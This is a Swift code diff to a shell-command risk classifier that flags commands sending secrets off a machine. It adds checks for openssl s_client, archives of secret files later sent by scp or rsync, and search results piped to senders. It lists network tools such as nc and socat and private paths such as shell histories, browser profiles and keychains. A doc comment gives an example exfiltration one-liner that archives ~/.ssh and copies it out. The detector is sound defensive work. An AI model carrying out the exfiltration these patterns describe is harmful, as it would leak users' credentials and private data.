@@ -14,7 +14,8 @@ enum Sending {
     case "nc", "ncat", "netcat", "socat", "telnet":
       if invocation.hasFlag("z") { return nil }
       return carriesSecret(invocation, script) ? .danger : readsInput(invocation) ? .caution : nil
-    case "scp", "rsync", "sftp", "rclone", "lftp", "croc", "magic-wormhole", "wormhole": return copy(invocation)
+    case "scp", "rsync", "sftp", "rclone", "lftp", "croc", "magic-wormhole", "wormhole":
+      return sendsCopy(invocation, script) ? .danger : copy(invocation)
     case "ssh": return carriesSecret(invocation, script) ? .danger : readsInput(invocation) ? .caution : nil
     case "dig", "nslookup", "host", "ping":
       return carriesSecret(invocation, script) ? .danger : invocation.substituted.isEmpty ? nil : .caution
@@ -24,6 +25,12 @@ enum Sending {
     case "gh":
       guard invocation.words.prefix(2) == ["gist", "create"] else { return nil }
       return carriesSecret(invocation, script) ? .danger : .caution
+    case "openssl":
+      guard invocation.subcommand == "s_client" else { return nil }
+      let readsFile = invocation.redirections.contains {
+        $0.operator == .input && $0.target.literalValue != "/dev/null"
+      }
+      return carriesSecret(invocation, script) ? .danger : readsFile ? .caution : nil
     case "mail", "mutt", "mailx", "sendmail":
       return carriesSecret(invocation, script) ? .danger : .caution
     case "python", "python3":
@@ -44,7 +51,7 @@ enum Sending {
     let isFed = script.sources(of: invocation).contains { source in
       tellers.contains(source.name ?? "") && source.operands.isEmpty
         || source.operands.contains { isPrivate($0.text) } || readsSecret(source)
-        || packsMuch(source)
+        || packsMuch(source) || RiskRule.showsSecret(source)
     }
     let namesSecret =
       invocation.name != "ssh"
@@ -56,8 +63,31 @@ enum Sending {
     let readsFile =
       !["curl", "wget", "ssh"].contains(invocation.name ?? "")
       && invocation.operands.contains { SecretFile.isNamed($0.text) }
-    return isFed || namesSecret || readsFile || readsSecret(invocation)
+    let sendsFound =
+      invocation.takesFoundFiles && script.invocations.count <= InvocationCollector.mostCompared
+      && script.invocations.contains { finder in
+        ["find", "fd", "fdfind", "locate", "grep"].contains(finder.name ?? "")
+          && finder.ownArguments.contains { SecretFile.isNamed($0.text) }
+      }
+    return isFed || sendsFound || sendsCopy(invocation, script) || namesSecret || readsFile || readsSecret(invocation)
   }
+
+  /// Whether it sends a file that an earlier command made of secrets: `tar czf k.tgz ~/.ssh; scp k.tgz h:`.
+  private static func sendsCopy(_ invocation: Invocation, _ script: InvocationCollector) -> Bool {
+    guard (2...InvocationCollector.mostCompared).contains(script.invocations.count) else { return false }
+    let sent = Set(invocation.operands.map(\.text) + sentFiles(invocation))
+    guard !sent.isEmpty else { return false }
+    return script.invocations.contains { maker in
+      makers.contains(maker.name ?? "") && maker.operands.contains { isPrivate($0.text) }
+        && (maker.operands.contains { !isPrivate($0.text) && sent.contains($0.text) }
+          || maker.redirections.contains { sent.contains($0.target.roughText) })
+    }
+  }
+
+  private static let makers: Set<String> = [
+    "tar", "zip", "7z", "cp", "cat", "base64", "gzip", "xz", "zstd", "openssl", "gpg", "xxd", "dd", "mv", "install",
+    "rsync",
+  ]
 
   /// Whether a home folder, the working folder or all of the system is packed: secrets are in there as well.
   private static func packsMuch(_ source: Invocation) -> Bool {
@@ -76,8 +106,14 @@ enum Sending {
 
   /// Secrets, and the list of users.
   private static func isPrivate(_ path: String) -> Bool {
-    SecretFile.isNamedOrFolder(path) || path.hasPrefix("/etc/passwd")
+    SecretFile.isNamedOrFolder(path) || path.hasPrefix("/etc/passwd") || ByteSearch.holdsAny(of: personal, in: path)
   }
+
+  /// What was typed, and the profiles of browsers and mail programs, where passwords and sessions are.
+  private static let personal = [
+    ".bash_history", ".zsh_history", "fish_history", ".psql_history", ".mysql_history", ".mozilla", ".thunderbird",
+    "google-chrome", ".config/chromium", "Library/Keychains", "Library/Mail", ".local/share/keyrings",
+  ]
 
   private static func web(_ invocation: Invocation, _ script: InvocationCollector) -> RiskLevel? {
     let files = sentFiles(invocation)
